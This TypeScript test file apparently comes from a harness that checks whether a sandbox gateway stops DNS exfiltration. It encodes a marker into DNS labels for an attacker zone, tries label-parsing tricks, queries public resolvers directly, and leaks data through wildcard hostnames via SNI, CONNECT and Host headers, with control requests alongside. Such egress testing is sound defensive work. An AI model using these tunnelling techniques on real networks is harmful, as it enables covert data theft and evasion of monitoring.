import type { Attempt, Brief, Endpoint, InsideRow } from '../brief.js'
import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
import { buildQuery, describeResponse, labelsOf, queryTcp, queryUdp, type TypeName } from './lib/dns.mjs'
import { base32 } from './lib/encode.mjs'
import { exchange, get, getByTls, openTcp, openTls, openTunnel } from './lib/http.mjs'

export const rows: Readonly<Record<string, InsideRow>> = {
  'dns-resolver': { attack: throughResolver, control: resolveListed },
  'dns-elsewhere': { attack: throughOthers, control: resolveListed },
  'dns-wildcard': { attack: underWildcard, control: askAssets },
}

async function ask(
  server: Endpoint,
  labels: readonly Buffer[],
  type: TypeName,
  tcp: boolean,
): Promise<ForwardResult> {
  const query = buildQuery(labels, type)
  const answer = await (tcp ? queryTcp(query, server) : queryUdp(query, server))
  return { reached: answer.rcode === 0 && answer.answers > 0, said: describeResponse(answer) }
}

/** The marker as labels, in the encodings that tunnels use. */
function encoded(marker: string): Record<string, Buffer[]> {
  const bytes = Buffer.from(marker)
  return {
    plain: [bytes],
    hex: [Buffer.from(bytes.toString('hex'))],
    base32: [Buffer.from(base32(bytes))],
    base64: [Buffer.from(bytes.toString('base64'))],
    'raw bytes': [Buffer.from(bytes.map((byte) => byte | 0x80))],
    'short labels': (marker.match(/.{1,4}/g) ?? []).map((part) => Buffer.from(part)),
  }
}

async function throughResolver({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  const types: TypeName[] = ['A', 'TXT', 'NULL', 'CNAME']
  // A name below a listed one is not listed; a dot inside a label makes an unlisted name look listed to a careless parser.
  const zones = { [names.attacker]: labelsOf(names.attacker), [`below ${names.jira}`]: labelsOf(names.jira) }
  const tries = Object.entries(zones).flatMap(([zone, suffix]) =>
    Object.entries(encoded(marker)).flatMap(([encoding, labels]) =>
      types.flatMap((type) =>
        [false, true].map(
          (tcp) => () =>
            attempt(`${type} ${encoding} ${zone} over ${tcp ? 'TCP' : 'UDP'}`, () =>
              ask(listeners.dns, [...labels, ...suffix], type, tcp),
            ),
        ),
      ),
    ),
  )
  const dotted = [Buffer.from(`${marker}.${names.jira.replace('.example', '')}`), Buffer.from('example')]
  return inTurn([
    ...tries,
    () => attempt('a dot inside a label', () => ask(listeners.dns, dotted, 'A', false)),
  ])
}

async function throughOthers(
  { attacker, names, hostResolvers, hostAddresses }: Brief,
  marker: string,
): Promise<Attempt[]> {
  const servers: Endpoint[] = [
    ...['8.8.8.8', '1.1.1.1', '2001:4860:4860::8888', '127.0.0.11', '127.0.0.53', ...hostResolvers].map(
      (host) => ({
        host,
        port: 53,
      }),
    ),
    ...['127.0.0.1', ...hostAddresses].map((host) => ({ host, port: attacker.dnsPort })),
  ]
  const labels = labelsOf(`${marker}.${names.attacker}`)
  return Promise.all(
    servers.flatMap((server) =>
      [false, true].map((tcp) =>
        attempt(`${server.host} port ${server.port} over ${tcp ? 'TCP' : 'UDP'}`, () =>
          ask(server, labels, 'A', tcp),
        ),
      ),
    ),
  )
}

/** Names of every type that a tunnel could use, each with new data. */
function payloads(marker: string): string[] {
  const words = ['north', 'amber', 'delta', 'violet', 'maple', 'seven', 'harbor', 'cobalt']
  return Array.from({ length: 16 }, (_, index) => {
    const part = `${marker}${index}`
    return [
      Buffer.from(part)
        .toString('hex')
        .slice(0, 16 + index),
      base32(Buffer.from(part)).slice(0, 24),
      `${words[index % 8] ?? ''}-${words[(index * 3 + 1) % 8] ?? ''}-${index}`,
      `a${index}`,
    ]
  }).flat()
}

/**
 * The only way for a name to carry data out: the resolver answers by itself, but the proxy resolves the host of a connection.
 * Tries every way to name a host, each with its own names.
 */
async function underWildcard(brief: Brief, marker: string): Promise<Attempt[]> {
  const { listeners, names } = brief
  const connecting: Record<string, (host: string) => Promise<ForwardResult>> = {
    SNI: (host) => getByTls(listeners.https, host, '/'),
    CONNECT: async (host) => {
      const tunnel = await openTunnel(listeners.proxy, `${host}:443`)
      return exchange(await openTls(tunnel, host), get(host, '/'))
    },
    Host: async (host) => exchange(await openTcp(listeners.http), get(host, '/')),
  }
  // Names that are only looked up use the same budget, so they come last, to give the attack its best chance.
  const asking = { DNS: (host: string) => ask(listeners.dns, labelsOf(host), 'A', false) }
  // A name is charged once, so repeating one lets the control tell a used-up budget from a closed gateway.
  await askAssets(brief, marker)
  const attempts: Attempt[] = []
  for (const ways of [connecting, asking]) {
    for (const payload of payloads(marker)) {
      const tried = Object.entries(ways).map(([way, go]) =>
        attempt(way, () => go(`${payload}${way.slice(0, 1).toLowerCase()}.${names.cdn}`)),
      )
      attempts.push(...(await Promise.all(tried)))
    }
  }
  return ['SNI', 'CONNECT', 'Host', 'DNS'].map((way) => {
    const own = attempts.filter(({ what }) => what === way)
    // Only the queries at the attacker's name server count, and they are not visible from inside.
    return { what: `${own.length} names by ${way}`, reached: false, said: tally(own.map((one) => one.said)) }
  })
}

async function resolveListed({ listeners, names }: Brief): Promise<Attempt[]> {
  return inTurn(
    [false, true].map(
      (tcp) => () =>
        attempt(`A ${names.jira} over ${tcp ? 'TCP' : 'UDP'}`, () =>
          ask(listeners.dns, labelsOf(names.jira), 'A', tcp),
        ),
    ),
  )
}

async function askAssets({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt(`GET https://${names.assets}/`, () =>
      getByTls(listeners.https, names.assets, `/?control=${marker}`),
    ),
  ]
}

function tally(answers: readonly string[]): string {
  const counts = new Map<string, number>()
  for (const answer of answers) counts.set(answer, (counts.get(answer) ?? 0) + 1)
  return [...counts].map(([answer, count]) => `${count} × ${answer}`).join('; ')
}
